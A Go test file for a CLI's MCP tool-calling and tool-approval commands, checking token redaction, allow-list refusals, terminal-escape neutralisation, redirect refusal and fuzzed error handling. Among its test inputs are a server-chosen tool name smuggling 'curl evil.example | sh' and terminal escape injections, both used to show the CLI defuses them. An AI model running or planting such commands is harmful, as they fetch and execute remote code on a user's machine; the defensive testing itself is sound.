package main

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/gatehouse/gatehouse/internal/oauth/oauthtest"
)

// The MCP commands: `mcp call` end to end (the real server, an SDK MCP server behind
// bearer auth on loopback HTTPS), `mcp tools` and `mcp approve` against a stub of the
// mcp-tools API.

// cliMCPUpstream installs on w an SDK server with the tools of newMCPServer and:
// fail (a result with isError), picture (an image), noisy (text with terminal
// escapes) and two (two text contents). It returns the count of tools/call requests
// that reached the upstream.
func cliMCPUpstream(w *mcpWorld) *atomic.Int64 {
	srv := newMCPServer()
	var calls atomic.Int64
	srv.AddReceivingMiddleware(func(next mcp.MethodHandler) mcp.MethodHandler {
		return func(ctx context.Context, method string, req mcp.Request) (mcp.Result, error) {
			if method == "tools/call" {
				calls.Add(1)
			}
			return next(ctx, method, req)
		}
	})
	tool := func(name string, res *mcp.CallToolResult) {
		mcp.AddTool(srv, &mcp.Tool{Name: name, Description: name}, func(context.Context, *mcp.CallToolRequest, struct{}) (*mcp.CallToolResult, any, error) {
			return res, nil, nil
		})
	}
	tool("fail", &mcp.CallToolResult{IsError: true, Content: []mcp.Content{&mcp.TextContent{Text: "it broke: quota exceeded"}}})
	tool("picture", &mcp.CallToolResult{Content: []mcp.Content{&mcp.ImageContent{MIMEType: "image/png", Data: []byte{0x89, 'P', 'N', 'G'}}}})
	tool("noisy", &mcp.CallToolResult{Content: []mcp.Content{&mcp.TextContent{Text: "red\x1b[31m title\x1b]0;pwned\x07 end\r\nnext\u009b2J"}}})
	tool("two", &mcp.CallToolResult{Content: []mcp.Content{&mcp.TextContent{Text: "first\n"}, &mcp.TextContent{Text: "second"}}})
	var h http.Handler = mcp.NewStreamableHTTPHandler(func(*http.Request) *mcp.Server { return srv }, nil)
	w.handler.Store(&h)
	return &calls
}

// cliMCPEnv points the CLI at the world's Gatehouse with token.
func cliMCPEnv(t *testing.T, w *mcpWorld, token string) map[string]string {
	return map[string]string{"GATEHOUSE_HOST": w.ts.URL, "GATEHOUSE_TOKEN": token, "HOME": t.TempDir()}
}

// cliAssertNoToken fails when out holds token, plainly or base64-encoded.
func cliAssertNoToken(t *testing.T, out, token string) {
	t.Helper()
	for _, form := range []string{token, base64.StdEncoding.EncodeToString([]byte(token)), base64.RawURLEncoding.EncodeToString([]byte(token))} {
		if strings.Contains(out, form) {
			t.Errorf("the output holds the caller's token: %q", out)
		}
	}
}

// TestCLIMCPCall: `gatehouse mcp call` through the real server's MCP proxy to an SDK
// server behind bearer auth: text printed a line each, other content as JSON lines, the
// whole result with -o json; isError on stderr with exit status 1; a tool outside the
// allow-list refused with -32003 and nothing reaching the upstream; a caller without
// USE_CONNECTION told PERMISSION_DENIED; --args that is not a JSON object refused
// before any request; terminal escapes of the server's text neutralized; the caller's
// token printed nowhere.
func TestCLIMCPCall(t *testing.T) {
	w := newMCPWorld(t, false)
	w.addLimited(t)
	calls := cliMCPUpstream(w)
	type want struct {
		stdout   string // exact stdout ("" = nothing), unless json is set
		json     bool   // stdout is the whole CallToolResult as JSON
		stderr   string // stderr contains this
		err      string // the returned error contains this; "" = success
		upstream int    // tools/call requests the upstream received
		reached  bool   // whether any request reached the upstream
	}
	tests := []struct {
		name  string
		token string
		args  []string
		stdin string
		want  want
	}{
		{name: "text result", token: w.alice, args: []string{"tools", "echo", "--args", `{"text":"hello"}`},
			want: want{stdout: "echo:hello\n", upstream: 1, reached: true}},
		{name: "no --args sends an empty object: a missing argument is the tool's error", token: w.alice, args: []string{"tools", "echo"},
			want: want{stderr: `missing properties: ["text"]`, err: "tool echo reported an error (isError)", upstream: 1, reached: true}},
		{name: "--args from stdin", token: w.alice, args: []string{"tools", "echo", "--args", "@-"}, stdin: `{"text":"piped"}` + "\n",
			want: want{stdout: "echo:piped\n", upstream: 1, reached: true}},
		{name: "each text on its own line", token: w.alice, args: []string{"tools", "two"},
			want: want{stdout: "first\nsecond\n", upstream: 1, reached: true}},
		{name: "image as one JSON line", token: w.alice, args: []string{"tools", "picture"},
			want: want{stdout: `{"type":"image","mimeType":"image/png","data":"iVBORw=="}` + "\n", upstream: 1, reached: true}},
		{name: "terminal escapes replaced", token: w.alice, args: []string{"tools", "noisy"},
			want: want{stdout: "red?[31m title?]0;pwned? end\nnext?2J\n", upstream: 1, reached: true}},
		{name: "json output", token: w.alice, args: []string{"tools", "echo", "--args", `{"text":"j"}`, "-o", "json"},
			want: want{json: true, upstream: 1, reached: true}},
		{name: "isError on stderr, exit 1", token: w.alice, args: []string{"tools", "fail"},
			want: want{stderr: "it broke: quota exceeded\n", err: "tool fail reported an error (isError)", upstream: 1, reached: true}},
		{name: "allow-list refuses the tool", token: w.alice, args: []string{"limited", "progress"},
			want: want{err: "call tool progress of limited: JSON-RPC error -32003: Tool not allowed by connection limited", reached: true}},
		{name: "allow-list lets echo through", token: w.alice, args: []string{"limited", "echo", "--args", `{"text":"ok"}`},
			want: want{stdout: "echo:ok\n", upstream: 1, reached: true}},
		{name: "no USE_CONNECTION", token: w.bob, args: []string{"tools", "echo"},
			want: want{err: "PERMISSION_DENIED: User bob@example.com does not have USE_CONNECTION on connection tools (request id "}},
		{name: "not an MCP connection", token: w.alice, args: []string{"plain", "echo"},
			want: want{err: "is_mcp_connection"}},
		{name: "unknown connection", token: w.alice, args: []string{"nope", "echo"},
			want: want{err: "RESOURCE_DOES_NOT_EXIST"}},
		{name: "--args an array", token: w.alice, args: []string{"tools", "echo", "--args", `["x"]`},
			want: want{err: "--args: a JSON array, want a JSON object"}},
		{name: "--args a string", token: w.alice, args: []string{"tools", "echo", "--args", `"x"`},
			want: want{err: "--args: a JSON string, want a JSON object"}},
		{name: "--args null", token: w.alice, args: []string{"tools", "echo", "--args", `null`},
			want: want{err: "--args: a JSON null, want a JSON object"}},
		{name: "--args not JSON, not echoed", token: w.alice, args: []string{"tools", "echo", "--args", `{text: sk-secret-arg}`},
			want: want{err: "--args: not valid JSON (at byte 2)"}},
		{name: "--args with trailing data", token: w.alice, args: []string{"tools", "echo", "--args", `{"a":1} {"b":2}`},
			want: want{err: "--args: not valid JSON"}},
		{name: "--args empty stdin", token: w.alice, args: []string{"tools", "echo", "--args", "@-"},
			want: want{err: "--args: empty"}},
		{name: "bad output format", token: w.alice, args: []string{"tools", "echo", "-o", "yaml"},
			want: want{err: `--output "yaml"`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			before, seenBefore := calls.Load(), len(w.requests())
			stdout, stderr, err := cliRun(t, cliMCPEnv(t, w, tt.token), tt.stdin, append([]string{"mcp", "call"}, tt.args...)...)
			errText := ""
			if err != nil {
				errText = err.Error()
			}
			switch {
			case tt.want.err == "" && err != nil:
				t.Fatalf("mcp call %v: %v (stderr %q)", tt.args, err, stderr)
			case tt.want.err != "" && !strings.Contains(errText, tt.want.err):
				t.Errorf("error = %q, want it to contain %q", errText, tt.want.err)
			}
			if tt.want.json {
				var res struct {
					Content []struct{ Type, Text string } `json:"content"`
				}
				if err := json.Unmarshal([]byte(stdout), &res); err != nil || len(res.Content) != 1 || res.Content[0].Text != "echo:j" {
					t.Errorf("-o json stdout = %q (%v), want the CallToolResult with echo:j", stdout, err)
				}
			} else if stdout != tt.want.stdout {
				t.Errorf("stdout = %q, want %q", stdout, tt.want.stdout)
			}
			if !strings.Contains(stderr, tt.want.stderr) {
				t.Errorf("stderr = %q, want it to contain %q", stderr, tt.want.stderr)
			}
			if n := calls.Load() - before; n != int64(tt.want.upstream) {
				t.Errorf("the upstream received %d tools/call requests, want %d", n, tt.want.upstream)
			}
			if reached := len(w.requests()) > seenBefore; reached != tt.want.reached {
				t.Errorf("a request reached the upstream: %v, want %v", reached, tt.want.reached)
			}
			all := stdout + stderr + errText
			if strings.Contains(all, "sk-secret-arg") {
				t.Errorf("the output echoes the bad --args: %q", all)
			}
			if strings.ContainsFunc(all, func(r rune) bool { return unicode.IsControl(r) && r != '\n' }) {
				t.Errorf("the output holds control characters: %q", all)
			}
			cliAssertNoToken(t, all, w.alice)
			cliAssertNoToken(t, all, w.bob)
		})
	}
	// The upstream saw the connection's credential only, never a caller's token.
	w.assertUpstreamHeaders(t, w.alice, w.bob)
}

// TestCLIMCPCallStateless: against an upstream in the SDK's stateless mode (no session,
// GET and DELETE refused with 405) the call works the same.
func TestCLIMCPCallStateless(t *testing.T) {
	w := newMCPWorld(t, true)
	stdout, stderr, err := cliRun(t, cliMCPEnv(t, w, w.alice), "", "mcp", "call", "tools", "echo", "--args", `{"text":"stateless"}`)
	if err != nil || stdout != "echo:stateless\n" {
		t.Fatalf("mcp call = %q, %v (stderr %q), want echo:stateless", stdout, err, stderr)
	}
	w.assertUpstreamHeaders(t, w.alice)
}

// TestCLIMCPCallLogin: on a per-user OAuth MCP connection alice has not logged in to,
// `mcp call` fails with the JSON-RPC login error, its login URL included, and nothing
// reaches the upstream; after she logs in the same command works.
func TestCLIMCPCallLogin(t *testing.T) {
	as := oauthtest.New(t, oauthtest.Options{AccessTokenLifespan: time.Hour, Clients: []oauthtest.Client{postClient}})
	srv := newMCPServer()
	h := mcp.NewStreamableHTTPHandler(func(*http.Request) *mcp.Server { return srv }, nil)
	var reached atomic.Int64
	up := newUpstream(t, func(rw http.ResponseWriter, r *http.Request) {
		reached.Add(1)
		tok, _ := strings.CutPrefix(r.Header.Get("Authorization"), "Bearer ")
		if active, _ := as.Introspect(tok); !active {
			http.Error(rw, "invalid_token", http.StatusUnauthorized)
			return
		}
		h.ServeHTTP(rw, r)
	})
	w := &mcpWorld{up: up}
	w.ts = startServer(t, "", nil, "--upstream-ca-file", joinCAFiles(t, as.CAFile, up.caFile))
	as.RegisterRedirectURI(w.ts.URL + "/login/oauth/http.html")
	_, w.alice = w.ts.mkUser("alice")
	w.ts.must("POST", "/api/2.1/unity-catalog/connections", w.ts.Admin, map[string]any{"name": "mine", "credential_type": "OAUTH_U2M_PER_USER", "options": map[string]string{
		"host": up.URL, "base_path": "/mcp", "is_mcp_connection": "true", "client_id": postClient.ID, "client_secret": postClient.Secret,
		"token_endpoint": as.URL + "/token", "authorization_endpoint": as.URL + "/authorize", "oauth_scope": "offline_access"}}, nil)
	w.ts.grant("connection", "mine", "alice", "USE_CONNECTION")

	env := cliMCPEnv(t, w, w.alice)
	stdout, stderr, err := cliRun(t, env, "", "mcp", "call", "mine", "echo", "--args", `{"text":"in"}`)
	if err == nil {
		t.Fatalf("mcp call before login succeeded: %q", stdout)
	}
	loginURL := w.ts.URL + "/connections/mine/login"
	for _, want := range []string{"connect to MCP connection mine: JSON-RPC error -32010: ", "Please login first", loginURL} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("error = %q, want it to contain %q", err, want)
		}
	}
	cliAssertNoToken(t, stdout+stderr+err.Error(), w.alice)
	cliAssertNoToken(t, stdout+stderr+err.Error(), postClient.Secret)
	if n := reached.Load(); n != 0 {
		t.Fatalf("the upstream received %d requests before alice logged in", n)
	}

	ow := &oauthWorld{t: t, ts: w.ts, as: as, users: map[string]string{"alice": w.alice}}
	if status, page := ow.login("alice", "mine"); status != http.StatusOK {
		t.Fatalf("login = %d: %s", status, page)
	}
	stdout, stderr, err = cliRun(t, env, "", "mcp", "call", "mine", "echo", "--args", `{"text":"in"}`)
	if err != nil || stdout != "echo:in\n" {
		t.Fatalf("mcp call after login = %q, %v (stderr %q), want echo:in", stdout, err, stderr)
	}
}

// cliMCPToolsBody is a stub answer of GET .../mcp-tools: a pinned tool, a changed one
// with a long description, a new one outside the allow-list with control characters.
const cliMCPToolsBody = `{"connection":"gh","pin_tools":true,"tools":[
 {"name":"alpha","description":"Reads things.","allowed":true,"state":"PINNED","pin":"sha256:aa","seen":"sha256:aa","first_seen":"2026-12-01T08:00:00Z","last_seen":"2026-12-01T09:00:00Z","approved_by":"admin","approved_at":"2026-12-01T08:30:00Z"},
 {"name":"beta","description":"Creates issues in any repository you can write to, and now also deletes them when it thinks they are stale, which it did not say before.","allowed":true,"state":"CHANGED","pin":"sha256:bb","seen":"sha256:b2","first_seen":"2026-12-01T08:00:00Z","last_seen":"2026-12-01T09:00:00Z","changed_at":"2026-12-01T08:50:00Z"},
 {"name":"gamma","description":"new\ttool\u001b[2J here","allowed":false,"state":"NEW","pin":"sha256:cc","seen":"sha256:cc","first_seen":"2026-12-01T08:55:00Z","last_seen":"2026-12-01T09:00:00Z","changed_at":"2026-12-01T08:55:00Z"}]}`

// TestCLIMCPTools: `mcp tools` prints the columns TOOL, ALLOWED, STATE, DESCRIPTION with
// the tools awaiting approval first and named on stderr with the approve command, the
// description cut with "…" so that every line fits COLUMNS (or 100), and -o json the
// API's body; `mcp approve` posts the tool names and prints the table after; API errors
// print as every command prints them, without the token.
func TestCLIMCPTools(t *testing.T) {
	t.Parallel()
	const path = "/api/2.0/gatehouse/connections/gh/mcp-tools"
	f := newCLIFakeAPI(t, map[string]cliResponse{
		"GET " + path:               {body: cliMCPToolsBody},
		"POST " + path + "/approve": {body: strings.Replace(cliMCPToolsBody, `"state":"CHANGED"`, `"state":"PINNED"`, 1)},
		"GET /api/2.0/gatehouse/connections/secret/mcp-tools": {status: http.StatusForbidden,
			body: `{"error_code":"PERMISSION_DENIED","message":"User bob does not have USE_CONNECTION on connection secret","request_id":"req-7"}`},
		"GET /api/2.0/gatehouse/connections/echo/mcp-tools": {status: http.StatusBadGateway,
			body: "<html>bad gateway for Bearer " + cliTestToken + "</html>"},
		"GET /api/2.0/gatehouse/connections/evil/mcp-tools":  {body: `{"connection":"evil","pin_tools":true,"tools":[{"name":"x; curl evil.example | sh","description":"d","allowed":true,"state":"NEW"},{"name":"it's","description":"d","allowed":true,"state":"CHANGED"}]}`},
		"GET /api/2.0/gatehouse/connections/empty/mcp-tools": {body: `{"connection":"empty","pin_tools":false,"tools":[]}`},
		"GET /api/2.0/gatehouse/connections/open/mcp-tools":  {body: `{"connection":"open","pin_tools":false,"tools":[{"name":"a","description":"","allowed":true,"state":"UNPINNED","pin":"sha256:1","seen":"sha256:1","first_seen":"2026-12-01T08:00:00Z","last_seen":"2026-12-01T08:00:00Z"}]}`},
	})
	tests := []struct {
		name    string
		columns string
		args    []string
		method  string // the request the command must send ("" = none)
		body    string // its JSON body
		rows    []string
		width   int    // every line at most this wide
		stderr  string // stderr contains
		json    string // stdout is this JSON
		err     string
	}{
		{name: "table cut to COLUMNS", columns: "60", args: []string{"tools", "gh"}, method: "GET",
			rows:  []string{"TOOL   ALLOWED  STATE    DESCRIPTION", "beta   yes      CHANGED  Creates issues in any repository y…", "gamma  no       NEW      new tool?[2J here", "alpha  yes      PINNED   Reads things."},
			width: 60, stderr: "2 tool(s) hidden and refused until approved (CHANGED or NEW); after checking their definitions (-o json):\n  gatehouse mcp approve gh beta gamma\n"},
		{name: "table without COLUMNS fits 100", args: []string{"tools", "gh"}, method: "GET",
			rows:  []string{"TOOL   ALLOWED  STATE    DESCRIPTION", "beta   yes      CHANGED  Creates issues in any repository you can write to, and now also deletes th…", "gamma  no       NEW      new tool?[2J here", "alpha  yes      PINNED   Reads things."},
			width: 100},
		{name: "COLUMNS narrower than the other columns", columns: "10", args: []string{"tools", "gh"}, method: "GET",
			rows: []string{"TOOL   ALLOWED  STATE    DESCRIPTION", "beta   yes      CHANGED  Creates is…", "gamma  no       NEW      new tool?[…", "alpha  yes      PINNED   Reads thin…"}},
		{name: "COLUMNS not a number", columns: "wide", args: []string{"tools", "gh"}, method: "GET", width: 100},
		{name: "json is the API body", columns: "60", args: []string{"tools", "gh", "-o", "json"}, method: "GET", json: cliMCPToolsBody},
		{name: "approve posts the names and prints the table", columns: "200", args: []string{"approve", "gh", "beta"}, method: "POST", body: `{"tools":["beta"]}`,
			rows:   []string{"TOOL   ALLOWED  STATE   DESCRIPTION", "gamma  no       NEW     new tool?[2J here", "alpha  yes      PINNED  Reads things.", "beta   yes      PINNED  Creates issues in any repository you can write to, and now also deletes them when it thinks they are stale, which it did not say before."},
			stderr: "gatehouse mcp approve gh gamma"},
		{name: "approve several, json", args: []string{"approve", "gh", "beta", "gamma", "-o", "json"}, method: "POST", body: `{"tools":["beta","gamma"]}`,
			json: strings.Replace(cliMCPToolsBody, `"state":"CHANGED"`, `"state":"PINNED"`, 1)},
		{name: "server-chosen tool names are shell-quoted in the suggested command", args: []string{"tools", "evil"}, method: "GET",
			stderr: `gatehouse mcp approve evil 'x; curl evil.example | sh' 'it'\''s'` + "\n"},
		{name: "no tools seen yet", args: []string{"tools", "empty"}, method: "GET", rows: []string{"TOOL  ALLOWED  STATE  DESCRIPTION"}, stderr: "No tools seen on empty yet"},
		{name: "connection without pins", args: []string{"tools", "open"}, method: "GET", rows: []string{"TOOL  ALLOWED  STATE     DESCRIPTION", "a     yes      UNPINNED  -"},
			stderr: "open does not pin its tools"},
		{name: "API error as every command prints it", args: []string{"tools", "secret"}, method: "GET",
			err: "PERMISSION_DENIED: User bob does not have USE_CONNECTION on connection secret (request id req-7)"},
		{name: "approve's API error", args: []string{"approve", "nope", "x"}, method: "POST", body: `{"tools":["x"]}`, err: "RESOURCE_DOES_NOT_EXIST: no route POST"},
		{name: "a body that is not the API's, token redacted", args: []string{"tools", "echo"}, method: "GET", err: "HTTP_502: <html>bad gateway for Bearer [REDACTED]</html>"},
		{name: "approve without a tool", args: []string{"approve", "gh"}, err: "want CONNECTION and at least one TOOL"},
		{name: "tools without a connection", args: []string{"tools"}, err: "want 1 argument(s): CONNECTION"},
		{name: "bad output format", args: []string{"tools", "gh", "-o", "yaml"}, err: `--output "yaml"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			env := cliEnv(f)
			if tt.columns != "" {
				env["COLUMNS"] = tt.columns
			}
			before := len(f.requests())
			stdout, stderr, err := cliRun(t, env, "", append([]string{"mcp"}, tt.args...)...)
			switch {
			case tt.err == "" && err != nil:
				t.Fatalf("mcp %v: %v", tt.args, err)
			case tt.err != "" && (err == nil || !strings.Contains(err.Error(), tt.err)):
				t.Fatalf("mcp %v: error %v, want it to contain %q", tt.args, err, tt.err)
			}
			reqs := f.requests()[before:]
			if tt.method == "" {
				if len(reqs) != 0 {
					t.Errorf("sent %d requests, want none", len(reqs))
				}
			} else if len(reqs) != 1 || reqs[0].Method != tt.method || reqs[0].Auth != "Bearer "+cliTestToken {
				t.Errorf("requests %+v, want one %s with the token", reqs, tt.method)
			} else if tt.body != "" {
				if d := cliJSONDiff(t, tt.body, reqs[0].Body); d != "" {
					t.Errorf("request body (-want +got):\n%s", d)
				}
			}
			if tt.json != "" {
				if d := cliJSONDiff(t, tt.json, stdout); d != "" {
					t.Errorf("-o json (-want +got):\n%s", d)
				}
			}
			if tt.rows != nil {
				if got := strings.Split(strings.TrimSuffix(stdout, "\n"), "\n"); strings.Join(got, "\n") != strings.Join(tt.rows, "\n") {
					t.Errorf("table:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(tt.rows, "\n"))
				}
			}
			if tt.width > 0 {
				for _, l := range strings.Split(stdout, "\n") {
					if n := utf8.RuneCountInString(l); n > tt.width {
						t.Errorf("line of %d characters, want at most %d: %q", n, tt.width, l)
					}
				}
			}
			if !strings.Contains(stderr, tt.stderr) {
				t.Errorf("stderr = %q, want it to contain %q", stderr, tt.stderr)
			}
			all := stdout + stderr
			if err != nil {
				all += err.Error()
			}
			if strings.Contains(all, cliTestToken) {
				t.Errorf("the output holds the token: %q", all)
			}
			if strings.ContainsFunc(all, func(r rune) bool { return unicode.IsControl(r) && r != '\n' }) {
				t.Errorf("the output holds control characters: %q", all)
			}
		})
	}
}

// TestCLIMCPNoRedirect: a server that answers with a redirect elsewhere gets an error,
// and the place it points to never sees the token: neither `mcp call` nor `mcp tools`
// follows it.
func TestCLIMCPNoRedirect(t *testing.T) {
	t.Parallel()
	var leaked atomic.Int64
	elsewhere := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") != "" {
			leaked.Add(1)
		}
		w.WriteHeader(http.StatusOK)
	}))
	t.Cleanup(elsewhere.Close)
	redirector := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, elsewhere.URL+r.URL.Path, http.StatusTemporaryRedirect)
	}))
	t.Cleanup(redirector.Close)
	env := map[string]string{"GATEHOUSE_HOST": redirector.URL, "GATEHOUSE_TOKEN": cliTestToken}
	for _, args := range [][]string{{"mcp", "call", "gh", "echo"}, {"mcp", "tools", "gh"}, {"mcp", "approve", "gh", "a"}} {
		t.Run(strings.Join(args, " "), func(t *testing.T) {
			stdout, stderr, err := cliRun(t, env, "", args...)
			if err == nil {
				t.Fatalf("gatehouse %v after a redirect = nil error, stdout %q", args, stdout)
			}
			if strings.Contains(stdout+stderr+err.Error(), cliTestToken) {
				t.Errorf("the output holds the token: %q %q %v", stdout, stderr, err)
			}
		})
	}
	if n := leaked.Load(); n != 0 {
		t.Fatalf("the redirect target received the token %d times", n)
	}
}

// TestCLIMCPErrors: what `mcp call` makes of the JSON-RPC errors it meets.
func TestCLIMCPErrors(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		body string
		want string // the error, "" for none found
	}{
		{name: "allow-list refusal", body: `{"jsonrpc":"2.0","id":2,"error":{"code":-32003,"message":"Tool not allowed by connection gh"}}`,
			want: "op: JSON-RPC error -32003: Tool not allowed by connection gh"},
		{name: "login URL added when the message lacks it", body: `{"jsonrpc":"2.0","id":1,"error":{"code":-32010,"message":"Login first.","data":{"login_url":"https://gh.example/connections/x/login"}}}`,
			want: "op: JSON-RPC error -32010: Login first. (log in at https://gh.example/connections/x/login)"},
		{name: "login URL not repeated", body: `{"jsonrpc":"2.0","id":1,"error":{"code":-32042,"message":"visit https://g/l","data":{"login_url":"https://g/l"}}}`,
			want: "op: JSON-RPC error -32042: visit https://g/l"},
		{name: "batch: the first error", body: `[{"jsonrpc":"2.0","id":1,"result":{}},{"jsonrpc":"2.0","id":2,"error":{"code":-32601,"message":"no such method"}}]`,
			want: "op: JSON-RPC error -32601: no such method"},
		{name: "token and escapes removed", body: `{"jsonrpc":"2.0","id":1,"error":{"code":-1,"message":"bad \u001b[2J tok-123\nline"}}`,
			want: "op: JSON-RPC error -1: bad ?[2J [REDACTED] line"},
		{name: "a result", body: `{"jsonrpc":"2.0","id":1,"result":{"content":[]}}`},
		{name: "not JSON", body: `event: message`},
		{name: "broken batch", body: `[{"error":`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := cliRPCErrorIn([]byte(tt.body))
			got := ""
			if e != nil {
				got = cliRPCError("op", e, "tok-123").Error()
			}
			if got != tt.want {
				t.Errorf("error = %q, want %q", got, tt.want)
			}
		})
	}
}

// FuzzCLIMCPErrorBody: whatever a server answers, the error `mcp call` prints from it
// is one printable line without the token, and an accepted --args is a JSON object.
func FuzzCLIMCPErrorBody(f *testing.F) {
	for _, s := range []string{
		`{"jsonrpc":"2.0","id":2,"error":{"code":-32003,"message":"Tool not allowed"}}`,
		`[{"id":1,"result":{}},{"id":2,"error":{"code":1,"message":"x","data":{"login_url":"u"}}}]`,
		`{"error_code":"PERMISSION_DENIED","message":"no","request_id":"r"}`,
		`{"error":{"code":1,"message":"tok-fuzz\u001b"}}`, `{}`, `[`, `null`, "\xff",
	} {
		f.Add([]byte(s))
	}
	const token = "tok-fuzz"
	printable := func(t *testing.T, what, s string) {
		if strings.Contains(s, token) {
			t.Fatalf("%s holds the token: %q", what, s)
		}
		if strings.ContainsFunc(s, func(r rune) bool { return unicode.IsControl(r) || r == utf8.RuneError }) {
			t.Fatalf("%s is not one printable line: %q", what, s)
		}
	}
	f.Fuzz(func(t *testing.T, body []byte) {
		if e := cliRPCErrorIn(body); e != nil {
			printable(t, "JSON-RPC error", cliRPCError("op", e, token).Error())
		}
		resp := &http.Response{StatusCode: http.StatusForbidden, Header: http.Header{}}
		printable(t, "API error", cliAPIError(resp, body, token).Error())
		if obj, err := cliJSONObject(body); err == nil {
			var m map[string]json.RawMessage
			if json.Unmarshal(obj, &m) != nil || m == nil {
				t.Fatalf("--args %q accepted but is not a JSON object", body)
			}
		}
	})
}
